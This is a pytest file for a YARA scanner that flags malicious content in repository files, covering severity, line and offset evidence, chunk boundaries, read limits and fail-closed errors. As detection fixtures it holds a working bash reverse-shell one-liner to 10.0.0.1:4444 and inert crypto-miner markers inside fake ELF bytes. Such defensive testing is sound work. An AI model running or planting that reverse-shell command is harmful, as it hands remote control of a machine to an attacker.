"""YaraScanner: which files it reads, how much, and how matches become findings.

Samples are inert text or header bytes written into tmp_path; nothing is executed.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from app.core.findings import Severity, Status
from app.core.formats.blobs import BytesBlob
from app.core.limits import Limits
from app.core.manifest import ManifestFile, RepoIdentity
from app.core.pipeline import VetOptions, vet
from app.core.report import Report
from app.core.scanners import yara_scanner
from app.core.scanners.base import ScanContext
from app.core.scanners.yara_scanner import CHUNK_OVERLAP, RULES_DIR, YaraScanner
from app.sources.local import LocalSource

REVERSE_SHELL = b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"
ELF_HEAD = b"\x7fELF\x02\x01\x01" + b"\x00" * 9 + b"\x03\x00\x3e\x00" + b"\x00" * 44


def _vet(tmp_path: Path, files: dict[str, bytes], limits: Limits | None = None) -> Report:
    for name, content in files.items():
        (tmp_path / name).write_bytes(content)
    return vet(LocalSource(tmp_path), [YaraScanner()], options=VetOptions(limits=limits, workers=1))


def test_rules_are_generated_from_rule_files() -> None:
    ids = {r.id for r in YaraScanner.rules}
    for path in RULES_DIR.glob("*.yar"):
        assert f"yara:{path.stem.replace('_', '-')}" in ids
    assert {"yara-partial-scan", "limit-exceeded"} <= ids


def test_text_match_reports_rule_severity_and_line(tmp_path: Path) -> None:
    report = _vet(tmp_path, {"install.sh": b"#!/bin/sh\necho setting up\n" + REVERSE_SHELL + b"\n"})
    (finding,) = report.findings
    assert finding.rule == "yara:reverse-shell-bash"
    assert finding.severity is Severity.CRITICAL
    assert finding.scanner == "yara"
    assert finding.evidence == "install.sh:3: " + REVERSE_SHELL.decode()


def test_binary_match_reports_offset(tmp_path: Path) -> None:
    payload = ELF_HEAD + b"\x00" * 100 + b"stratum+tcp://pool.example.invalid:3333\x00"
    report = _vet(tmp_path, {"libfast.so": payload})
    assert report.files[0].format == "elf"
    (finding,) = report.findings
    assert finding.rule == "yara:crypto-miner"
    assert finding.evidence == f"libfast.so@0x{len(ELF_HEAD) + 100:x}: stratum+tcp://"


def test_benign_text_has_no_findings(tmp_path: Path) -> None:
    report = _vet(tmp_path, {"README.md": b"# Model\n\npip install vllm\nbash run.sh\n"})
    assert report.findings == ()
    assert report.files[0].scanned


def test_match_across_a_chunk_boundary_is_found_with_its_line(tmp_path: Path) -> None:
    chunk = 4 * CHUNK_OVERLAP  # the chunk size when max_text_bytes is small
    lines = b"x" * 99 + b"\n"
    prefix = lines * ((chunk - 10) // len(lines))
    prefix += b"y" * (chunk - 11 - len(prefix)) + b" "  # the string starts 10 bytes before the boundary
    report = _vet(tmp_path, {"notes.txt": prefix + REVERSE_SHELL + b"\n"},
                  limits=Limits(max_text_bytes=1024))
    (finding,) = report.findings
    line = prefix.count(b"\n") + 1
    last_line = prefix[prefix.rfind(b"\n") + 1 :] + REVERSE_SHELL
    assert finding.evidence == f"notes.txt:{line}: {last_line.decode()}"


def test_large_binary_is_scanned_on_its_start_and_says_so(tmp_path: Path) -> None:
    cap = 4 * CHUNK_OVERLAP
    early = ELF_HEAD + b"xmrig\x00" + b"\x00" * cap
    late = ELF_HEAD + b"\x00" * (cap + 100) + b"xmrig\x00"
    report = _vet(tmp_path, {"early.so": early, "late.so": late}, limits=Limits(max_text_bytes=cap))
    by_path = {(f.path, f.rule) for f in report.findings}
    assert ("early.so", "yara:crypto-miner") in by_path
    assert ("late.so", "yara:crypto-miner") not in by_path  # past the cap: honest, reported below
    assert {("early.so", "yara-partial-scan"), ("late.so", "yara-partial-scan")} <= by_path


def test_text_past_the_read_limit_is_a_limit_finding(tmp_path: Path) -> None:
    limits = Limits(max_text_bytes=CHUNK_OVERLAP, max_read_bytes_per_file=8 * CHUNK_OVERLAP)
    report = _vet(tmp_path, {"big.txt": b"hello\n" * (2 * CHUNK_OVERLAP)}, limits=limits)
    assert [(f.rule, f.severity) for f in report.findings] == [("limit-exceeded", Severity.HIGH)]


class _LyingBlob(BytesBlob):
    """Claims more bytes than it returns, like a truncated remote file."""

    @property
    def size(self) -> int:
        return 1000


def test_short_read_fails_closed() -> None:
    ctx = ScanContext(ManifestFile("x.sh", 1000, format="text"), _LyingBlob(b""), Limits(), RepoIdentity(None))
    outcome = YaraScanner().scan(ctx)
    assert outcome.status is Status.FAILED
    assert [f.rule for f in outcome.findings] == ["scan-error"]


def test_the_match_timeout_bounds_the_whole_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(yara_scanner, "MATCH_TIMEOUT", 0)  # spent before the first chunk
    report = _vet(tmp_path, {"run.sh": REVERSE_SHELL})
    assert [f.rule for f in report.findings] == ["scan-error"]
    assert "longer than 0s" in report.findings[0].message
    assert not report.files[0].scanned


@pytest.mark.parametrize(
    ("fmt", "handled"),
    [("text", True), ("elf", True), ("pe", True), ("macho", True), ("unknown", True), ("ar", True),
     ("pickle", True), ("safetensors", False), ("pytorch-zip", False), ("gguf", False), ("numpy", False),
     ("empty", False)],
)
def test_handles_scripts_and_binaries_not_weights(fmt: str, handled: bool) -> None:
    assert YaraScanner().handles(ManifestFile("f", 10, format=fmt)) is handled
